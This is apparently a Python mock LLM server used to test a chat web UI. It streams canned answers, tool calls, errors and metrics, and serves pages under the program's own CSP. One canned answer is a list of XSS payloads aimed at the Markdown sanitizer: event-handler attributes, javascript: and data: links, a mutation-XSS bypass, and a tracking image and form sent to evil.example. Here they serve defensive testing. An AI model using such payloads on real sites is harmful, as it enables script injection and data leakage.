"""A server that answers as a model might, for what a real one cannot be made to do: hostile Markdown, failures, calls
of tools, a wanted key, a model that loads. It serves the pages from the source folder with the program's own headers.

As a program: mock.py [PORT]     to look at the pages while writing them; it ends itself after an hour.
"""
import http.server
import json
import pathlib
import re
import sys
import threading
import time
import urllib.parse

ROOT = pathlib.Path(__file__).resolve().parents[3]
PAGES = ROOT / "src/server/web/pages"
LIBRARIES = {
    "marked.js": "/usr/share/javascript/marked/marked.min.js",
    "purify.js": "/usr/share/nodejs/dompurify/dist/purify.min.js",
    "highlight.js": "/usr/share/javascript/highlight.js/highlight.min.js",
}
TYPES = {".html": "text/html; charset=utf-8", ".css": "text/css; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".svg": "image/svg+xml"}


def policy():
    """The policy that the program sends: read from its source, so that the two are one."""
    source = (ROOT / "src/server/web/web.c").read_text(encoding="utf-8")
    block = re.search(r"POLICY\[\] =(.*?);\n", source, re.S).group(1)
    return "".join(re.findall(r'"([^"]*)"', block))


HOSTILE = """# Hello <script>window.hacked = 1</script>

<img src="https://evil.example/a.png" onerror="window.hacked = 2">

<iframe src="javascript:parent.hacked = 3"></iframe> and <b onmouseover="window.hacked = 4">bold</b>

<style>body { display: none }</style>

[a link](javascript:window.hacked=5) and [another](data:text/html,<script>parent.hacked=6</script>)
and <a href="&#106;avascript:window.hacked=7">a third</a>, [good](https://example.com/ "title\\" onclick=\\"hacked=8")

![picture](https://evil.example/track.png?secret=1)

<svg><g onload="window.hacked = 9"></g></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=10&gt;">

<form action="https://evil.example"><input name="q"><button>go</button></form><meta http-equiv="refresh" content="0;url=https://evil.example">

```html"><img src=x onerror=window.hacked=11>
<script>window.hacked = 12</script>
```

The end of it.
"""

CODE = """Here is a way to do it:

```python
import heapq

def dijkstra(graph: dict[str, dict[str, int]], start: str) -> dict[str, int]:
    # Shortest distances from start to every node that can be reached.
    distances = {start: 0}
    queue = [(0, start)]
    while queue:
        distance, node = heapq.heappop(queue)
        if distance > distances[node]:
            continue
        for neighbour, weight in graph[node].items():
            new = distance + weight
            if new < distances.get(neighbour, float("inf")):
                distances[neighbour] = new
                heapq.heappush(queue, (new, neighbour))
    return distances
```

It takes `O((V + E) log V)` time. **What to know:**

1. Weights must not be negative.
2. A node may stand in the queue several times; the check skips those that are out of date.

| Structure | Push | Pop |
| --- | ---: | ---: |
| Binary heap | O(log n) | O(log n) |
| Fibonacci heap | O(1) | O(log n) |

> With negative weights, use Bellman–Ford instead.
"""
PLAIN = "The sky is blue since air scatters short waves of light more than long ones. This is called *Rayleigh scattering*.\n\nAt sunset light takes a longer way through the air, so most of the blue is gone and **red** is left."
THOUGHT = "The person asks about the number of letters.\n\nLet me count: s-t-r-a-w-b-e-r-r-y. There is an *r* at 3, 8 and 9."


def pieces(text, size=4):
    return [text[at : at + size] for at in range(0, len(text), size)]


class Mock(http.server.ThreadingHTTPServer):
    """key: wanted by the API; loading_until: time until which it says that its model loads."""

    daemon_threads = True

    def __init__(self, port=0, key=None, pace=0.004):
        super().__init__(("127.0.0.1", port), Handler)
        self.key, self.pace, self.loading_until = key, pace, 0
        self.missing = set()  # libraries that this build lacks
        self.requests = []  # bodies of the chats asked for
        self.foreign = []  # paths that are not ours
        self.cancelled = 0
        self.tokens = [0, 0]  # of prompts, generated
        self.running = 0
        self.lock = threading.Lock()
        self.policy = policy()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, request, client_address):
        pass  # a client that goes is what is tested


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def reply(self, status, body, kind="application/json", **headers):
        if not isinstance(body, bytes):
            body = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def fail(self, status, message, **headers):
        self.reply(status, {"error": {"message": message, "type": "error", "code": status}}, **headers)

    def page(self, path):
        name = {"/": "index.html", "/dashboard": "dashboard.html"}.get(path, path.removeprefix("/web/"))
        if name.startswith("lib/"):
            file = pathlib.Path(LIBRARIES.get(name[4:], "/nowhere"))
        else:
            file = PAGES / name
        if "/" in name.removeprefix("lib/") or not file.is_file():
            self.server.foreign.append(path)
            return self.fail(404, "not found")
        if name[4:] in self.server.missing:
            return self.reply(200, b"", TYPES[".js"])
        headers = {"Content_Security_Policy": self.server.policy, "X_Content_Type_Options": "nosniff", "Cache_Control": "no-cache"}
        self.reply(200, file.read_bytes(), TYPES[file.suffix], **headers)

    def allowed(self):
        if self.server.key and self.headers.get("Authorization") != f"Bearer {self.server.key}":
            self.fail(401, "Invalid API Key")
            return False
        if time.time() < self.server.loading_until:
            self.fail(503, "Loading model")
            return False
        return True

    def do_GET(self):
        path = urllib.parse.urlparse(self.path).path
        if path in ("/", "/dashboard") or path.startswith("/web/"):
            return self.page(path)
        if path == "/health":
            return self.reply(200, {"status": "ok"})
        if not self.allowed():
            return None
        server = self.server
        if path == "/v1/models":
            return self.reply(200, {"object": "list", "data": [{"id": "mock-4b"}, {"id": "mock-tiny"}]})
        if path == "/props":
            params = {"temperature": 0.8, "top_k": 40, "top_p": 0.95, "min_p": 0.05, "repeat_penalty": 1.0, "presence_penalty": 0.0, "frequency_penalty": 0.0}
            return self.reply(200, {"default_generation_settings": {"n_ctx": 4096, "params": params}, "total_slots": 4})
        if path == "/slots":
            busy = [{"id": at, "is_processing": at < server.running, "id_task": 70 + at, "n_ctx": 4096, "n_past": 600 if at < server.running else 0,
                     "n_prompt_tokens": 512, "n_prompt_tokens_processed": 512, "next_token": [{"n_decoded": 88}]} for at in range(4)]
            return self.reply(200, busy)
        if path == "/metrics":
            prompt, generated = server.tokens
            text = f"""# HELP llamacpp:prompt_tokens_total Number of prompt tokens processed.
# TYPE llamacpp:prompt_tokens_total counter
llamacpp:prompt_tokens_total {prompt}
llamacpp:tokens_predicted_total {generated}
llamacpp:requests_processing {server.running}
llamacpp:requests_deferred 1
xenon:cache_pages 512
xenon:cache_pages_used 180
xenon:cache_pages_cached 96
xenon:cached_tokens_total 2048
"""
            return self.reply(200, text.encode(), "text/plain; version=0.0.4")
        server.foreign.append(path)
        return self.fail(404, "not found")

    do_HEAD = do_GET

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))) or b"{}")
        if not self.allowed():
            return None
        if urllib.parse.urlparse(self.path).path != "/v1/chat/completions":
            self.server.foreign.append(self.path)
            return self.fail(404, "not found")
        self.server.requests.append(body)
        question = next((m["content"] for m in reversed(body["messages"]) if m["role"] == "user"), "")
        question = question.split("\n\n")[-1]  # those whose answers failed come along
        if "refuse" in question:
            return self.fail(400, "the prompt has 5000 tokens, the context 4096")
        if "too busy" in question:
            return self.fail(429, "the queue is full", Retry_After="7")
        return self.stream(question, body["messages"][-1]["role"] == "tool")

    def stream(self, question, after_tool):
        thought, text, calls, fault = "", PLAIN, [], ""
        if "hostile" in question:
            text = HOSTILE
        elif "code" in question:
            text = CODE
        elif "think" in question:
            thought, text = THOUGHT, "There are **three** of them."
        elif "weather" in question:
            if after_tool:
                text = "It is sunny, with 21 °C."
            else:
                text, calls = "", [("call_a", "weather", '{"city": "Oslo", "unit": "C"}'), ("call_b", "time", "{}")]
        elif "long" in question:
            text = "\n\n".join(f"Paragraph {at} of a long answer, which goes on for a while so that there is time to stop it." for at in range(400))
        elif "break" in question:
            fault = "error"
        elif "vanish" in question:
            fault = "vanish"
        server = self.server
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        with server.lock:
            server.running += 1
            server.tokens[0] += 120
        try:
            if "slow" in question:
                time.sleep(1.5)
            deltas = [{"reasoning_content": part} for part in pieces(thought)] + [{"content": part} for part in pieces(text)]
            for index, (call, name, arguments) in enumerate(calls):
                deltas.append({"tool_calls": [{"index": index, "id": call, "type": "function", "function": {"name": name, "arguments": ""}}]})
                deltas += [{"tool_calls": [{"index": index, "function": {"arguments": part}}]} for part in pieces(arguments)]
            for at, delta in enumerate([{"role": "assistant", "content": None}] + deltas):
                if fault and at == 12:
                    if fault == "error":
                        self.event({"error": {"message": "the device failed", "code": 500}})
                    return
                self.event({"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
                server.tokens[1] += 1
                time.sleep(server.pace)
            self.event({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls" if calls else "stop"}]})
            count = len(deltas)
            self.event({"choices": [], "usage": {"prompt_tokens": 120, "completion_tokens": count, "total_tokens": 120 + count},
                        "timings": {"prompt_n": 20, "cache_n": 100, "predicted_n": count, "predicted_ms": 1000.0 * count / 41.5, "predicted_per_second": 41.5}})
            self.wfile.write(b"data: [DONE]\n\n")
        except OSError:
            server.cancelled += 1
        finally:
            with server.lock:
                server.running -= 1

    def event(self, data):
        self.wfile.write(b"data: " + json.dumps(data).encode() + b"\n\n")
        self.wfile.flush()


if __name__ == "__main__":
    mock = Mock(int(sys.argv[1]) if len(sys.argv) > 1 else 8077, pace=0.02)
    print(mock.url, flush=True)
    time.sleep(3600)
